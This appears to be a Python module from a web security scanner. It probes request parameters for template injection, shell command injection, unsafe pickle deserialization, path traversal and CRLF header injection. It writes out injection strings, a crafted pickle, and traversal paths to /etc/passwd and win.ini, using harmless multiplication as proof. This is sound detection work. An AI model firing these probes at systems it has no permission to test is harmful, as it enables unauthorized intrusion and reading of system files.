"""Whether a value is run as a template or a command, or leads to a file or a header, told by what comes of it."""

import base64
import random
import re
from dataclasses import dataclass

from worker.explorer.experiments.answers import Trial, sent
from worker.explorer.experiments.entries import fresh_token
from worker.observation.experiments.attacks import Injection
from worker.observation.runtime import Exchange

# The first line of every Unix system's list of users, and a section of every Windows' old settings.
USERS = re.compile(r"root:[^:\n]{0,20}:0:0:")
_SETTINGS = re.compile(r"\[fonts\]|for 16-bit app support", re.IGNORECASE)
_UP = "../" * 8
_FILES = (
    (f"{_UP}etc/passwd", USERS),
    ("/etc/passwd", USERS),
    ("....//" * 8 + "etc/passwd", USERS),
    ("..\\" * 8 + "windows\\win.ini", _SETTINGS),
)
# Python's pickle: protocols 2 to 5 in base64, 0 as text, any as bytes.
PICKLE = re.compile(r"^gA[J-S][\w+/=-]{12,}$|^\(dp?\d|^c\w+\n\w+\n|^[\x80\ufffd][\x02-\x05]")
_NAMES_FILE = re.compile(
    r"file|path|page|dir|folder|doc|template|include|load|read|img|image|src|view|lang|theme|name|report|download|log",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class Product:
    """Two numbers, and their product, which stands nowhere by chance."""

    one: int
    other: int

    @classmethod
    def any(cls) -> "Product":
        """Two of four digits that end in neither 0 nor 5."""
        return cls(random.randrange(1000, 9999) * 10 + 7, random.randrange(1000, 9999) * 10 + 3)

    @property
    def asked(self) -> str:
        """What to reckon."""
        return f"{self.one}*{self.other}"

    @property
    def answer(self) -> str:
        """What comes of it."""
        return str(self.one * self.other)

    def found_in(self, text: str) -> str:
        """The product as it stands in a text, perhaps with its thousands set apart; "" where it does not."""
        forms = (self.answer, f"{self.one * self.other:,}", f"{self.one * self.other:_}".replace("_", "."))
        return next((form for form in forms if form in text), "")


# Jinja, Twig, Handlebars and others; Freemarker, Mako, Thymeleaf, JSP; ERB, EJS; Pug, Slim; Velocity, Razor.
_TEMPLATES = ("{{{{{}}}}}", "${{{}}}", "<%={}%>", "#{{{}}}", "@({})")
# Ends the command before and begins another one; within quotes of both kinds; and for Windows' shell.
_COMMANDS = (
    ";echo $(({}))",
    "|echo $(({}))",
    "$(echo $(({})))",
    "';echo $(({}));'",
    '";echo $(({}));"',
    "&set /a {}",
)


async def as_template(trial: Trial) -> Injection | None:
    """A multiplication in a template's brackets comes back multiplied."""
    return await _reckoned(trial, "template", _TEMPLATES)


async def as_command(trial: Trial) -> Injection | None:
    """A multiplication for the shell comes back multiplied."""
    return await _reckoned(trial, "command", _COMMANDS)


async def as_object(trial: Trial) -> Injection | None:
    """An object that multiplies as it is read comes back as the product: it is read without a check.

    Python's pickle names what is called with which values while it is read; multiplying harms nobody.
    """
    if not PICKLE.match(trial.entry.value):
        return None
    told: list[Injection] = []
    for _ in range(2):
        product = Product.any()
        pickled = f"coperator\nmul\n(I{product.one}\nI{product.other}\ntR."
        in_base64 = trial.entry.value.startswith("gA")
        value = base64.b64encode(pickled.encode()).decode() if in_base64 else pickled
        answer = await trial.ask(value)
        if not (words := product.found_in(answer.body)):
            return None
        proof = f"An object that multiplies {product.one} by {product.other} as it is read came back as the product."
        told.append(_found(trial, "object", value, proof, answer, words))
    return told[-1]


async def as_path(trial: Trial) -> Injection | None:
    """The way to a file that every machine has brings the file."""
    likely = _NAMES_FILE.search(trial.entry.name) or "/" in trial.entry.value or "." in trial.entry.value
    for value, sign in _FILES if likely else _FILES[:1]:
        answer = await trial.ask(value)
        found = sign.search(answer.body)
        if found and not sign.search(trial.before.body):
            proof = "The way to a file of the system in its place brought that file."
            return _found(trial, "path", value, proof, answer, found.group())
    return None


async def as_header(trial: Trial) -> Injection | None:
    """A line break in it begins a header of our own."""
    name = f"x-{fresh_token()}"
    value = f"{trial.entry.value}\r\n{name}: 1"
    answer = await trial.ask(value)
    if name not in answer.response_headers:
        return None
    return _found(trial, "header", value, f"A line break in it made the answer carry the header “{name}”.", answer, "")


async def _reckoned(trial: Trial, kind: str, patterns: tuple[str, ...]) -> Injection | None:
    for pattern in patterns:
        if not await _came_back(trial, pattern):
            continue
        if (again := await _came_back(trial, pattern)) is not None:
            value, answer, product = again
            proof = f"{product.asked} in it came back as {product.answer}, and other numbers did, too."
            return _found(trial, kind, value, proof, answer, product.found_in(answer.body))
    return None


async def _came_back(trial: Trial, pattern: str) -> tuple[str, Exchange, Product] | None:
    product = Product.any()
    value = trial.entry.value + pattern.format(product.asked)
    answer = await trial.ask(value)
    return (value, answer, product) if product.found_in(answer.body) else None


def _found(trial: Trial, kind: str, value: str, proof: str, answer: Exchange, around: str) -> Injection:
    entry = trial.entry
    record = sent(entry.holding(trial.sending, value), answer, around)
    return Injection(kind, entry.place, entry.name, trial.sending.url, value, proof, record)
